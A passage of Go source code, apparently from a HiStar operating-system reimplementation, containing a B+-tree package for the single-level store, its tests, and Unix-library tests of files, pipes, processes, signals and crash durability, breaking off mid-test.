		t.Error("double delete succeeded")
	}
}

func TestCeilingFloor(t *testing.T) {
	var tr Tree
	for _, k := range []uint64{10, 20, 30, 40, 50} {
		tr.Put(K1(k), k)
	}
	cases := []struct {
		q       uint64
		ceil    uint64
		ceilOK  bool
		floor   uint64
		floorOK bool
	}{
		{5, 10, true, 0, false},
		{10, 10, true, 10, true},
		{15, 20, true, 10, true},
		{50, 50, true, 50, true},
		{55, 0, false, 50, true},
	}
	for _, c := range cases {
		k, _, ok := tr.Ceiling(K1(c.q))
		if ok != c.ceilOK || (ok && k[0] != c.ceil) {
			t.Errorf("Ceiling(%d) = %v,%v want %d,%v", c.q, k, ok, c.ceil, c.ceilOK)
		}
		k, _, ok = tr.Floor(K1(c.q))
		if ok != c.floorOK || (ok && k[0] != c.floor) {
			t.Errorf("Floor(%d) = %v,%v want %d,%v", c.q, k, ok, c.floor, c.floorOK)
		}
	}
}

func TestCeilingFloorAcrossLeaves(t *testing.T) {
	var tr Tree
	// Enough keys to force several leaf splits, spaced by 10.
	for i := uint64(0); i < 5000; i++ {
		tr.Put(K1(i*10), i)
	}
	for i := uint64(1); i < 4999; i++ {
		q := i*10 + 5
		ck, _, ok := tr.Ceiling(K1(q))
		if !ok || ck[0] != (i+1)*10 {
			t.Fatalf("Ceiling(%d) = %v, %v", q, ck, ok)
		}
		fk, _, ok := tr.Floor(K1(q))
		if !ok || fk[0] != i*10 {
			t.Fatalf("Floor(%d) = %v, %v", q, fk, ok)
		}
	}
}

func TestRange(t *testing.T) {
	var tr Tree
	for i := uint64(0); i < 100; i++ {
		tr.Put(K1(i), i)
	}
	var got []uint64
	tr.Range(K1(10), K1(20), func(k Key, v uint64) bool {
		got = append(got, k[0])
		return true
	})
	if len(got) != 10 || got[0] != 10 || got[9] != 19 {
		t.Errorf("Range(10,20) = %v", got)
	}
	// Early termination.
	count := 0
	tr.Range(K1(0), K1(100), func(Key, uint64) bool {
		count++
		return count < 5
	})
	if count != 5 {
		t.Errorf("early-terminated range visited %d", count)
	}
}

func TestCompositeKeys(t *testing.T) {
	var tr Tree
	// Free-by-size tree usage: key = (size, offset).
	tr.Put(K2(4096, 1000), 0)
	tr.Put(K2(4096, 2000), 0)
	tr.Put(K2(8192, 500), 0)
	// Smallest extent of at least 4096 bytes.
	k, _, ok := tr.Ceiling(K2(4096, 0))
	if !ok || k[0] != 4096 || k[1] != 1000 {
		t.Errorf("Ceiling = %v", k)
	}
	// Smallest extent of at least 5000 bytes.
	k, _, ok = tr.Ceiling(K2(5000, 0))
	if !ok || k[0] != 8192 {
		t.Errorf("Ceiling(5000) = %v", k)
	}
}

func TestKeyOrdering(t *testing.T) {
	if !K2(1, 5).Less(K2(2, 0)) {
		t.Error("first component should dominate")
	}
	if !K2(1, 5).Less(K2(1, 6)) {
		t.Error("second component should break ties")
	}
	if K2(1, 5).Less(K2(1, 5)) {
		t.Error("equal keys are not Less")
	}
}

// TestPropMatchesMapModel drives the tree with random operations and checks
// it against a plain map plus sorting.
func TestPropMatchesMapModel(t *testing.T) {
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		var tr Tree
		model := make(map[Key]uint64)
		for op := 0; op < 3000; op++ {
			k := K2(uint64(r.Intn(200)), uint64(r.Intn(5)))
			switch r.Intn(3) {
			case 0:
				v := uint64(r.Intn(1000))
				tr.Put(k, v)
				model[k] = v
			case 1:
				got := tr.Delete(k)
				_, want := model[k]
				if got != want {
					t.Logf("delete mismatch for %v: got %v want %v", k, got, want)
					return false
				}
				delete(model, k)
			case 2:
				gotV, gotOK := tr.Get(k)
				wantV, wantOK := model[k]
				if gotOK != wantOK || (gotOK && gotV != wantV) {
					t.Logf("get mismatch for %v", k)
					return false
				}
			}
		}
		if tr.Len() != len(model) {
			t.Logf("length mismatch: %d vs %d", tr.Len(), len(model))
			return false
		}
		// Full scan matches the sorted model.
		keys := make([]Key, 0, len(model))
		for k := range model {
			keys = append(keys, k)
		}
		sort.Slice(keys, func(i, j int) bool { return keys[i].Less(keys[j]) })
		i := 0
		okScan := true
		tr.Scan(func(k Key, v uint64) bool {
			if i >= len(keys) || keys[i] != k || model[k] != v {
				okScan = false
				return false
			}
			i++
			return true
		})
		if !okScan || i != len(keys) {
			t.Logf("scan mismatch (i=%d of %d)", i, len(keys))
			return false
		}
		// Spot-check Ceiling and Floor against the model.
		for q := 0; q < 50; q++ {
			probe := K2(uint64(r.Intn(220)), uint64(r.Intn(6)))
			var wantCeil *Key
			var wantFloor *Key
			for _, k := range keys {
				k := k
				if !k.Less(probe) && wantCeil == nil {
					wantCeil = &k
				}
				if k.Less(probe) || k == probe {
					wantFloor = &k
				}
			}
			ck, _, cok := tr.Ceiling(probe)
			if (wantCeil != nil) != cok || (cok && ck != *wantCeil) {
				t.Logf("ceiling mismatch at %v: got %v,%v want %v", probe, ck, cok, wantCeil)
				return false
			}
			fk, _, fok := tr.Floor(probe)
			if (wantFloor != nil) != fok || (fok && fk != *wantFloor) {
				t.Logf("floor mismatch at %v: got %v,%v want %v", probe, fk, fok, wantFloor)
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Error(err)
	}
}

func TestScanPrefix(t *testing.T) {
	tr := &Tree{}
	// Three prefix groups, interleaved with neighbours, spanning many leaves.
	for i := uint64(0); i < 200; i++ {
		tr.Put(K2(10, i), i)
		tr.Put(K2(11, i), 1000+i)
		tr.Put(K2(^uint64(0), i), 2000+i)
	}
	var got []uint64
	tr.ScanPrefix(11, func(k Key, v uint64) bool {
		if k[0] != 11 {
			t.Fatalf("visited key %v outside prefix", k)
		}
		got = append(got, k[1])
		return true
	})
	if len(got) != 200 {
		t.Fatalf("prefix 11 visited %d keys", len(got))
	}
	for i, v := range got {
		if v != uint64(i) {
			t.Fatalf("out of order at %d: %d", i, v)
		}
	}
	// The maximal prefix must work without an exclusive upper bound.
	n := 0
	tr.ScanPrefix(^uint64(0), func(k Key, v uint64) bool { n++; return true })
	if n != 200 {
		t.Errorf("max prefix visited %d keys", n)
	}
	// Absent prefix visits nothing; early stop is honoured.
	tr.ScanPrefix(5, func(Key, uint64) bool { t.Fatal("visited absent prefix"); return true })
	n = 0
	tr.ScanPrefix(10, func(Key, uint64) bool { n++; return n < 3 })
	if n != 3 {
		t.Errorf("early stop visited %d keys", n)
	}
}

func TestChecksumOrderIndependentAndSensitive(t *testing.T) {
	a, b := &Tree{}, &Tree{}
	for i := uint64(0); i < 100; i++ {
		a.Put(K2(i, i*3), i*7)
	}
	for i := uint64(100); i > 0; i-- {
		b.Put(K2(i-1, (i-1)*3), (i-1)*7)
	}
	if a.Checksum() != b.Checksum() {
		t.Error("same mapping must checksum identically regardless of insertion order")
	}
	b.Put(K2(5, 15), 999)
	if a.Checksum() == b.Checksum() {
		t.Error("changed value must change the checksum")
	}
	empty := &Tree{}
	if empty.Checksum() == a.Checksum() {
		t.Error("empty tree should not collide with a populated one")
	}
}
