// Package btree implements the fixed-size-key B+-trees the HiStar
// single-level store uses (Section 4): one mapping object IDs to their
// location on disk, and two maintaining the free-extent list (indexed by
// extent size and by extent location).  Keys are 128-bit pairs compared
// lexicographically, values are 64-bit — "fixed-size keys and values, which
// significantly simplifies their implementation", as the paper notes.
package btree

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
)

var checksumTable = crc32.MakeTable(crc32.Castagnoli)

// Checksum returns a CRC32C over the tree's key/value stream in key order.
// Two trees holding the same mapping produce the same checksum regardless of
// insertion history, so a scrubber can cheaply compare an index rebuilt from
// source data against the one that was loaded from disk.
func (t *Tree) Checksum() uint32 {
	h := crc32.New(checksumTable)
	var buf [24]byte
	t.Scan(func(k Key, v uint64) bool {
		binary.LittleEndian.PutUint64(buf[0:], k[0])
		binary.LittleEndian.PutUint64(buf[8:], k[1])
		binary.LittleEndian.PutUint64(buf[16:], v)
		h.Write(buf[:])
		return true
	})
	return h.Sum32()
}

// Key is a fixed-size 128-bit key compared lexicographically.
type Key [2]uint64

// K1 builds a key from a single component.
func K1(a uint64) Key { return Key{a, 0} }

// K2 builds a key from two components (e.g. extent size and offset).
func K2(a, b uint64) Key { return Key{a, b} }

// Less reports whether k sorts before other.
func (k Key) Less(other Key) bool {
	if k[0] != other[0] {
		return k[0] < other[0]
	}
	return k[1] < other[1]
}

// String implements fmt.Stringer.
func (k Key) String() string { return fmt.Sprintf("(%d,%d)", k[0], k[1]) }

// degree is the maximum number of keys per node; nodes split when they
// exceed it.
const degree = 64

// Tree is an in-memory B+-tree from Key to uint64.  The zero value is an
// empty tree ready to use.  A Tree is not safe for concurrent use; callers
// (the store) serialize access.
type Tree struct {
	root *node
	size int
}

type node struct {
	leaf     bool
	keys     []Key
	vals     []uint64 // leaf only, parallel to keys
	children []*node  // internal only, len(children) == len(keys)+1
	next     *node    // leaf chain for range scans
}

// Len returns the number of key/value pairs stored.
func (t *Tree) Len() int { return t.size }

// Get returns the value stored under k.
func (t *Tree) Get(k Key) (uint64, bool) {
	if t.root == nil {
		return 0, false
	}
	n := t.root
	for !n.leaf {
		n = n.children[childIndex(n.keys, k)]
	}
	i, found := leafIndex(n.keys, k)
	if !found {
		return 0, false
	}
	return n.vals[i], true
}

// childIndex returns the child slot to descend into for key k: the first
// child whose separating key is greater than k.
func childIndex(keys []Key, k Key) int {
	lo, hi := 0, len(keys)
	for lo < hi {
		mid := (lo + hi) / 2
		if keys[mid].Less(k) || keys[mid] == k {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	return lo
}

// leafIndex returns the position of k within a leaf's keys, or the insertion
// point and false.
func leafIndex(keys []Key, k Key) (int, bool) {
	lo, hi := 0, len(keys)
	for lo < hi {
		mid := (lo + hi) / 2
		if keys[mid].Less(k) {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	return lo, lo < len(keys) && keys[lo] == k
}

// Put inserts or replaces the value under k.
func (t *Tree) Put(k Key, v uint64) {
	if t.root == nil {
		t.root = &node{leaf: true}
	}
	newChild, sepKey, grew := t.insert(t.root, k, v)
	if newChild != nil {
		t.root = &node{
			keys:     []Key{sepKey},
			children: []*node{t.root, newChild},
		}
	}
	if grew {
		t.size++
	}
}

// insert adds k/v below n.  If n splits, it returns the new right sibling
// and the separator key to install in the parent.
func (t *Tree) insert(n *node, k Key, v uint64) (*node, Key, bool) {
	if n.leaf {
		i, found := leafIndex(n.keys, k)
		if found {
			n.vals[i] = v
			return nil, Key{}, false
		}
		n.keys = append(n.keys, Key{})
		n.vals = append(n.vals, 0)
		copy(n.keys[i+1:], n.keys[i:])
		copy(n.vals[i+1:], n.vals[i:])
		n.keys[i] = k
		n.vals[i] = v
		if len(n.keys) > degree {
			right := t.splitLeaf(n)
			return right, right.keys[0], true
		}
		return nil, Key{}, true
	}
	ci := childIndex(n.keys, k)
	newChild, sepKey, grew := t.insert(n.children[ci], k, v)
	if newChild != nil {
		n.keys = append(n.keys, Key{})
		copy(n.keys[ci+1:], n.keys[ci:])
		n.keys[ci] = sepKey
		n.children = append(n.children, nil)
		copy(n.children[ci+2:], n.children[ci+1:])
		n.children[ci+1] = newChild
		if len(n.keys) > degree {
			right, sep := t.splitInternal(n)
			return right, sep, grew
		}
	}
	return nil, Key{}, grew
}

func (t *Tree) splitLeaf(n *node) *node {
	mid := len(n.keys) / 2
	right := &node{
		leaf: true,
		keys: append([]Key(nil), n.keys[mid:]...),
		vals: append([]uint64(nil), n.vals[mid:]...),
		next: n.next,
	}
	n.keys = n.keys[:mid:mid]
	n.vals = n.vals[:mid:mid]
	n.next = right
	return right
}

func (t *Tree) splitInternal(n *node) (*node, Key) {
	mid := len(n.keys) / 2
	sep := n.keys[mid]
	right := &node{
		keys:     append([]Key(nil), n.keys[mid+1:]...),
		children: append([]*node(nil), n.children[mid+1:]...),
	}
	n.keys = n.keys[:mid:mid]
	n.children = n.children[: mid+1 : mid+1]
	return right, sep
}

// Delete removes k from the tree, reporting whether it was present.
// Deletion does not rebalance (leaves may become sparse); empty leaves are
// unlinked lazily during scans.  The store's workloads delete keys they will
// shortly reuse, so this keeps the structure simple without unbounded decay.
func (t *Tree) Delete(k Key) bool {
	if t.root == nil {
		return false
	}
	n := t.root
	for !n.leaf {
		n = n.children[childIndex(n.keys, k)]
	}
	i, found := leafIndex(n.keys, k)
	if !found {
		return false
	}
	n.keys = append(n.keys[:i], n.keys[i+1:]...)
	n.vals = append(n.vals[:i], n.vals[i+1:]...)
	t.size--
	return true
}

// Ceiling returns the smallest key ≥ k and its value.  The free-by-size tree
// uses it to find an appropriately sized extent.
func (t *Tree) Ceiling(k Key) (Key, uint64, bool) {
	if t.root == nil {
		return Key{}, 0, false
	}
	n := t.root
	for !n.leaf {
		n = n.children[childIndex(n.keys, k)]
	}
	i, _ := leafIndex(n.keys, k)
	for n != nil {
		if i < len(n.keys) {
			return n.keys[i], n.vals[i], true
		}
		n = n.next
		i = 0
	}
	return Key{}, 0, false
}

// Floor returns the largest key ≤ k and its value.  The free-by-offset tree
// uses it to find the extent immediately preceding an offset for coalescing.
func (t *Tree) Floor(k Key) (Key, uint64, bool) {
	if t.root == nil {
		return Key{}, 0, false
	}
	// Descend to the leaf that would contain k, remembering the deepest
	// branch point with a left sibling in case the leaf holds nothing ≤ k.
	n := t.root
	var fallback *node
	for !n.leaf {
		ci := childIndex(n.keys, k)
		if ci > 0 {
			fallback = n.children[ci-1]
		}
		n = n.children[ci]
	}
	i, found := leafIndex(n.keys, k)
	if found {
		return n.keys[i], n.vals[i], true
	}
	if i > 0 {
		return n.keys[i-1], n.vals[i-1], true
	}
	if fallback == nil {
		return Key{}, 0, false
	}
	// Rightmost entry of the left sibling subtree.
	n = fallback
	for !n.leaf {
		n = n.children[len(n.children)-1]
	}
	if len(n.keys) > 0 {
		return n.keys[len(n.keys)-1], n.vals[len(n.keys)-1], true
	}
	// The rightmost leaf was emptied by lazy deletion; fall back to a scan.
	var (
		best    Key
		bestVal uint64
		ok      bool
	)
	t.Scan(func(key Key, val uint64) bool {
		if key.Less(k) || key == k {
			best, bestVal, ok = key, val, true
			return true
		}
		return false
	})
	return best, bestVal, ok
}

// Min returns the smallest key and its value.
func (t *Tree) Min() (Key, uint64, bool) {
	return t.Ceiling(Key{})
}

// Scan visits every key/value pair in ascending order until fn returns
// false.
func (t *Tree) Scan(fn func(Key, uint64) bool) {
	if t.root == nil {
		return
	}
	n := t.root
	for !n.leaf {
		n = n.children[0]
	}
	for n != nil {
		for i := range n.keys {
			if !fn(n.keys[i], n.vals[i]) {
				return
			}
		}
		n = n.next
	}
}

// Range visits keys in [lo, hi) in ascending order until fn returns false.
func (t *Tree) Range(lo, hi Key, fn func(Key, uint64) bool) {
	if t.root == nil {
		return
	}
	n := t.root
	for !n.leaf {
		n = n.children[childIndex(n.keys, lo)]
	}
	i, _ := leafIndex(n.keys, lo)
	for n != nil {
		for ; i < len(n.keys); i++ {
			if !n.keys[i].Less(hi) {
				return
			}
			if !fn(n.keys[i], n.vals[i]) {
				return
			}
		}
		n = n.next
		i = 0
	}
}

// ScanPrefix visits, in ascending order, every key whose first component
// equals a, until fn returns false.  The store's fingerprint-keyed label
// index uses it to enumerate all objects carrying a given label fingerprint:
// unlike Range it needs no exclusive upper bound, so a == MaxUint64 (a
// perfectly good fingerprint) works without overflow.
func (t *Tree) ScanPrefix(a uint64, fn func(Key, uint64) bool) {
	if t.root == nil {
		return
	}
	lo := Key{a, 0}
	n := t.root
	for !n.leaf {
		n = n.children[childIndex(n.keys, lo)]
	}
	i, _ := leafIndex(n.keys, lo)
	for n != nil {
		for ; i < len(n.keys); i++ {
			if n.keys[i][0] != a {
				return
			}
			if !fn(n.keys[i], n.vals[i]) {
				return
			}
		}
		n = n.next
		i = 0
	}
}

// depth returns the height of the tree (for tests asserting balance).
func (t *Tree) depth() int {
	d := 0
	n := t.root
	for n != nil {
		d++
		if n.leaf {
			break
		}
		n = n.children[0]
	}
	return d
}

// Depth exposes the tree height for tests and statistics.
func (t *Tree) Depth() int { return t.depth() }
