package unixlib

import (
	"bytes"
	"errors"
	"testing"

	"histar/internal/disk"
	"histar/internal/kernel"
	"histar/internal/label"
	"histar/internal/store"
	"histar/internal/vclock"
)

func bootSys(t *testing.T) *System {
	t.Helper()
	sys, err := Boot(BootOptions{KernelConfig: kernel.Config{Seed: 1}})
	if err != nil {
		t.Fatal(err)
	}
	return sys
}

func bootSysPersist(t *testing.T) (*System, *store.Store, *vclock.Clock) {
	t.Helper()
	clk := &vclock.Clock{}
	d := disk.New(disk.Params{Sectors: 1 << 18, WriteCache: true}, clk)
	st, err := store.Format(d, store.Options{LogSize: 4 << 20})
	if err != nil {
		t.Fatal(err)
	}
	sys, err := Boot(BootOptions{Persist: st, KernelConfig: kernel.Config{Seed: 1}})
	if err != nil {
		t.Fatal(err)
	}
	return sys, st, clk
}

func TestBootCreatesStandardDirectories(t *testing.T) {
	sys := bootSys(t)
	p, err := sys.NewInitProcess("root")
	if err != nil {
		t.Fatal(err)
	}
	entries, err := p.ReadDir("/")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]bool{"tmp": false, "bin": false, "etc": false, "home": false, "dev": false}
	for _, e := range entries {
		if _, ok := want[e.Name]; ok {
			want[e.Name] = true
		}
	}
	for name, seen := range want {
		if !seen {
			t.Errorf("missing /%s", name)
		}
	}
}

func TestFileCreateWriteReadStat(t *testing.T) {
	sys := bootSys(t)
	p, _ := sys.NewInitProcess("alice")
	fd, err := p.Create("/tmp/hello.txt", label.Label{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := p.Write(fd, []byte("hello ")); err != nil {
		t.Fatal(err)
	}
	if _, err := p.Write(fd, []byte("world")); err != nil {
		t.Fatal(err)
	}
	if err := p.Close(fd); err != nil {
		t.Fatal(err)
	}
	data, err := p.ReadFile("/tmp/hello.txt")
	if err != nil || string(data) != "hello world" {
		t.Fatalf("ReadFile = %q, %v", data, err)
	}
	fi, err := p.Stat("/tmp/hello.txt")
	if err != nil {
		t.Fatal(err)
	}
	if fi.Size != 11 || fi.IsDir {
		t.Errorf("Stat = %+v", fi)
	}
	// Creating the same file again fails.
	if _, err := p.Create("/tmp/hello.txt", label.Label{}); !errors.Is(err, ErrExist) {
		t.Errorf("duplicate create: %v", err)
	}
	// Opening a missing file fails.
	if _, err := p.Open("/tmp/missing", ORead); !errors.Is(err, ErrNotExist) {
		t.Errorf("open missing: %v", err)
	}
}

func TestSeekAndPartialIO(t *testing.T) {
	sys := bootSys(t)
	p, _ := sys.NewInitProcess("alice")
	fd, _ := p.Create("/tmp/seek.dat", label.Label{})
	p.Write(fd, []byte("0123456789"))
	if pos, err := p.Seek(fd, 2, SeekSet); err != nil || pos != 2 {
		t.Fatalf("Seek = %d, %v", pos, err)
	}
	buf := make([]byte, 4)
	n, err := p.Read(fd, buf)
	if err != nil || n != 4 || string(buf) != "2345" {
		t.Fatalf("Read after seek = %q (%d), %v", buf, n, err)
	}
	if pos, _ := p.Seek(fd, -2, SeekEnd); pos != 8 {
		t.Errorf("SeekEnd pos = %d", pos)
	}
	n, _ = p.Read(fd, buf)
	if n != 2 || string(buf[:n]) != "89" {
		t.Errorf("tail read = %q", buf[:n])
	}
	// Pread/Pwrite do not move the seek position.
	if _, err := p.Pwrite(fd, []byte("AB"), 0); err != nil {
		t.Fatal(err)
	}
	out := make([]byte, 2)
	if _, err := p.Pread(fd, out, 0); err != nil || string(out) != "AB" {
		t.Errorf("Pread = %q, %v", out, err)
	}
}

func TestMkdirReadDirUnlinkRename(t *testing.T) {
	sys := bootSys(t)
	p, _ := sys.NewInitProcess("alice")
	if err := p.Mkdir("/tmp/work", label.Label{}); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"a.txt", "b.txt", "c.txt"} {
		if err := p.WriteFile("/tmp/work/"+name, []byte(name), label.Label{}); err != nil {
			t.Fatal(err)
		}
	}
	entries, err := p.ReadDir("/tmp/work")
	if err != nil || len(entries) != 3 {
		t.Fatalf("ReadDir = %d entries, %v", len(entries), err)
	}
	// Rename within the directory.
	if err := p.Rename("/tmp/work/a.txt", "/tmp/work/z.txt"); err != nil {
		t.Fatal(err)
	}
	if _, err := p.Stat("/tmp/work/a.txt"); !errors.Is(err, ErrNotExist) {
		t.Error("old name should be gone")
	}
	if data, err := p.ReadFile("/tmp/work/z.txt"); err != nil || string(data) != "a.txt" {
		t.Errorf("renamed file contents = %q, %v", data, err)
	}
	// Cross-directory rename.
	if err := p.Mkdir("/tmp/other", label.Label{}); err != nil {
		t.Fatal(err)
	}
	if err := p.Rename("/tmp/work/b.txt", "/tmp/other/b.txt"); err != nil {
		t.Fatal(err)
	}
	if data, err := p.ReadFile("/tmp/other/b.txt"); err != nil || string(data) != "b.txt" {
		t.Errorf("moved file = %q, %v", data, err)
	}
	// Unlink.
	if err := p.Unlink("/tmp/work/c.txt"); err != nil {
		t.Fatal(err)
	}
	if _, err := p.Stat("/tmp/work/c.txt"); !errors.Is(err, ErrNotExist) {
		t.Error("unlinked file still present")
	}
	// Removing a non-empty directory fails.
	if err := p.Unlink("/tmp/other"); !errors.Is(err, ErrNotEmpty) {
		t.Errorf("unlink non-empty dir: %v", err)
	}
	// Unlink remaining file then the directory.
	p.Unlink("/tmp/other/b.txt")
	if err := p.Unlink("/tmp/other"); err != nil {
		t.Errorf("unlink empty dir: %v", err)
	}
}

func TestChdirRelativePaths(t *testing.T) {
	sys := bootSys(t)
	p, _ := sys.NewInitProcess("alice")
	p.Mkdir("/tmp/project", label.Label{})
	if err := p.Chdir("/tmp/project"); err != nil {
		t.Fatal(err)
	}
	if err := p.WriteFile("notes.txt", []byte("relative"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	if data, err := p.ReadFile("/tmp/project/notes.txt"); err != nil || string(data) != "relative" {
		t.Errorf("relative create landed wrong: %q, %v", data, err)
	}
	if err := p.Chdir("/tmp/missing"); !errors.Is(err, ErrNotExist) && !errors.Is(err, ErrNotDir) {
		t.Errorf("chdir to missing: %v", err)
	}
}

func TestUserFileProtection(t *testing.T) {
	sys := bootSys(t)
	alice, err := sys.NewInitProcess("alice")
	if err != nil {
		t.Fatal(err)
	}
	bob, err := sys.NewInitProcess("bob")
	if err != nil {
		t.Fatal(err)
	}
	// Alice writes a private file in her home directory.
	if err := alice.WriteFile("/home/alice/secret.txt", []byte("top secret"), label.Label{}); err != nil {
		t.Fatal(err)
	}
	// Bob cannot read Alice's home directory or the file.
	if _, err := bob.ReadFile("/home/alice/secret.txt"); err == nil {
		t.Error("bob must not read alice's file")
	}
	// Bob cannot write into Alice's home directory either.
	if err := bob.WriteFile("/home/alice/evil.txt", []byte("x"), label.Label{}); err == nil {
		t.Error("bob must not create files in alice's home")
	}
	// Alice can read her own data.
	if data, err := alice.ReadFile("/home/alice/secret.txt"); err != nil || string(data) != "top secret" {
		t.Errorf("alice read own file: %q, %v", data, err)
	}
	// A world-readable file in /tmp is readable by both.
	if err := alice.WriteFile("/tmp/public.txt", []byte("hi"), label.New(label.L1)); err != nil {
		t.Fatal(err)
	}
	if data, err := bob.ReadFile("/tmp/public.txt"); err != nil || string(data) != "hi" {
		t.Errorf("bob reading public file: %q, %v", data, err)
	}
}

func TestMountTable(t *testing.T) {
	sys := bootSys(t)
	p, _ := sys.NewInitProcess("alice")
	// Create a directory and mount it at /netd.
	p.Mkdir("/tmp/fakenetd", label.Label{})
	p.WriteFile("/tmp/fakenetd/ctl", []byte("socket gate"), label.Label{})
	fi, err := p.Stat("/tmp/fakenetd")
	if err != nil {
		t.Fatal(err)
	}
	p.Mounts().Mount("/netd", fi.ID)
	data, err := p.ReadFile("/netd/ctl")
	if err != nil || string(data) != "socket gate" {
		t.Fatalf("read through mount: %q, %v", data, err)
	}
	p.Mounts().Unmount("/netd")
	if _, err := p.ReadFile("/netd/ctl"); err == nil {
		t.Error("unmounted path should no longer resolve")
	}
}

func TestPipes(t *testing.T) {
	sys := bootSys(t)
	p, _ := sys.NewInitProcess("alice")
	r, w, err := p.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	msg := []byte("through the pipe")
	done := make(chan []byte, 1)
	go func() {
		buf := make([]byte, 64)
		n, err := p.Read(r, buf)
		if err != nil {
			done <- nil
			return
		}
		done <- buf[:n]
	}()
	if _, err := p.Write(w, msg); err != nil {
		t.Fatal(err)
	}
	if got := <-done; !bytes.Equal(got, msg) {
		t.Errorf("pipe read = %q", got)
	}
	// Closing the write end makes reads return EOF.
	if err := p.Close(w); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 8)
	n, err := p.Read(r, buf)
	if err != nil || n != 0 {
		t.Errorf("read after writer close = %d, %v", n, err)
	}
	// Writing to a pipe whose reader is closed fails.
	r2, w2, _ := p.Pipe()
	p.Close(r2)
	if _, err := p.Write(w2, []byte("x")); !errors.Is(err, ErrPipeClosed) {
		t.Errorf("write to closed pipe: %v", err)
	}
}

func TestSpawnWaitExitStatus(t *testing.T) {
	sys := bootSys(t)
	err := sys.RegisterProgram("/bin/true", func(p *Process, args []string) int { return 0 })
	if err != nil {
		t.Fatal(err)
	}
	sys.RegisterProgram("/bin/false", func(p *Process, args []string) int { return 1 })
	p, _ := sys.NewInitProcess("alice")

	child, err := p.Spawn("/bin/true", nil)
	if err != nil {
		t.Fatal(err)
	}
	status, err := p.Wait(child)
	if err != nil || status != 0 {
		t.Errorf("wait(/bin/true) = %d, %v", status, err)
	}
	child, err = p.Spawn("/bin/false", nil)
	if err != nil {
		t.Fatal(err)
	}
	status, err = p.Wait(child)
	if err != nil || status != 1 {
		t.Errorf("wait(/bin/false) = %d, %v", status, err)
	}
	if _, err := p.Spawn("/bin/nonexistent", nil); !errors.Is(err, ErrNoProgram) {
		t.Errorf("spawn missing program: %v", err)
	}
}

func TestForkExecWait(t *testing.T) {
	sys := bootSys(t)
	sys.RegisterProgram("/bin/true", func(p *Process, args []string) int { return 0 })
	p, _ := sys.NewInitProcess("alice")
	before := sys.Kern.SyscallTotal()
	child, err := p.Fork()
	if err != nil {
		t.Fatal(err)
	}
	if err := child.Exec("/bin/true", nil); err != nil {
		t.Fatal(err)
	}
	status, err := p.Wait(child)
	if err != nil || status != 0 {
		t.Fatalf("fork/exec/wait = %d, %v", status, err)
	}
	forkExecCalls := sys.Kern.SyscallTotal() - before

	before = sys.Kern.SyscallTotal()
	child2, _ := p.Spawn("/bin/true", nil)
	p.Wait(child2)
	spawnCalls := sys.Kern.SyscallTotal() - before
	if forkExecCalls <= spawnCalls {
		t.Errorf("fork/exec (%d syscalls) should cost more than spawn (%d)", forkExecCalls, spawnCalls)
	}
}

func TestSpawnedChildSharesParentPipe(t *testing.T) {
	sys := bootSys(t)
	sys.RegisterProgram("/bin/echo-pipe", func(p *Process, args []string) int {
		// The child writes into fd named by convention (the write end the
		// parent created before spawning).
		wfd := -1
		for _, n := range p.FDTable() {
			fd, _ := p.getFD(n)
			if fd.Pipe != nil && fd.WriteEnd {
				wfd = n
			}
		}
		if wfd < 0 {
			return 2
		}
		if _, err := p.Write(wfd, []byte("from child")); err != nil {
			return 1
		}
		return 0
	})
	p, _ := sys.NewInitProcess("alice")
	r, _, err := p.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	child, err := p.Spawn("/bin/echo-pipe", nil)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 64)
	n, err := p.Read(r, buf)
	if err != nil || string(buf[:n]) != "from child" {
		t.Errorf("parent read = %q, %v", buf[:n], err)
	}
	if status, _ := p.Wait(child); status != 0 {
		t.Errorf("child exit status = %d", status)
	}
}

func TestSignals(t *testing.T) {
	sys := bootSys(t)
	p, _ := sys.NewInitProcess("alice")
	q, _ := sys.NewInitProcess("alice") // same user: may signal

	got := make(chan int, 1)
	q.Signal(SIGUSR1, func(sig int) { got <- sig })
	if err := p.Kill(q, SIGUSR1); err != nil {
		t.Fatal(err)
	}
	if n := q.HandlePendingSignals(); n != 1 {
		t.Errorf("handled %d signals", n)
	}
	select {
	case sig := <-got:
		if sig != SIGUSR1 {
			t.Errorf("sig = %d", sig)
		}
	default:
		t.Error("handler never ran")
	}

	// A different user may not signal alice's process.
	mallory, _ := sys.NewInitProcess("mallory")
	if err := mallory.Kill(q, SIGKILL); err == nil {
		t.Error("cross-user kill must fail")
	}
}

func TestFsyncAndGroupSyncDurability(t *testing.T) {
	sys, st, _ := bootSysPersist(t)
	p, _ := sys.NewInitProcess("alice")
	fd, err := p.Create("/tmp/durable.txt", label.New(label.L1))
	if err != nil {
		t.Fatal(err)
	}
	p.Write(fd, []byte("must survive"))
	if err := p.Fsync(fd); err != nil {
		t.Fatal(err)
	}
	p.Close(fd)
	p.WriteFile("/tmp/volatile.txt", []byte("may vanish"), label.New(label.L1))

	// Simulate a crash: lose the disk write cache and reopen the store.
	d := st.Disk().(*disk.Disk)
	d.Crash()
	st2, err := store.Open(d, store.Options{LogSize: 4 << 20})
	if err != nil {
		t.Fatal(err)
	}
	fi, err := p.Stat("/tmp/durable.txt")
	if err != nil {
		t.Fatal(err)
	}
	data, err := st2.Get(uint64(fi.ID))
	if err != nil || string(data) != "must survive" {
		t.Errorf("synced file after crash: %q, %v", data, err)
	}
	// Group sync makes everything durable at once.
	if err := p.GroupSync(); err != nil {
		t.Fatal(err)
	}
	if st.Stats().Checkpoints == 0 {
		t.Error("group sync should checkpoint the store")
	}
}

func TestSpawnedProcessCountsSyscalls(t *testing.T) {
	sys := bootSys(t)
	sys.RegisterProgram("/bin/true", func(p *Process, args []string) int { return 0 })
	p, _ := sys.NewInitProcess("alice")
	sys.Kern.ResetSyscallCounts()
	child, _ := p.Spawn("/bin/true", nil)
	p.Wait(child)
	if sys.Kern.SyscallTotal() < 20 {
